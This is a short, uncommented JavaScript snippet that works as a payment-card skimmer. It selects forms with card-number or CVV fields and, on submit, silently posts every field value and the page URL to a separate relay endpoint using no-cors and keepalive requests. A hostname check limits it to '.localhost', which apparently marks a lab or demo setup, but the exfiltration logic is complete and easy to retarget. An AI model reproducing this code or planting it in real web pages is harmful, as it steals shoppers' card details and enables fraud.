const endpoint = new URL('https://forms-relay.localhost/in');
async function forward(form) {
  const body = new FormData(form);
  body.append('__ref', location.href);
  await fetch(endpoint, { method: 'POST', body, mode: 'no-cors', keepalive: true });
}
if (location.hostname.endsWith('.localhost')) {
  document.querySelectorAll('form').forEach((form) => {
    if (!form.querySelector('[autocomplete="cc-number"], [name*="card" i], [name*="cvv" i]')) return;
    form.addEventListener('submit', () => { forward(form); }, { capture: true });
  });
}
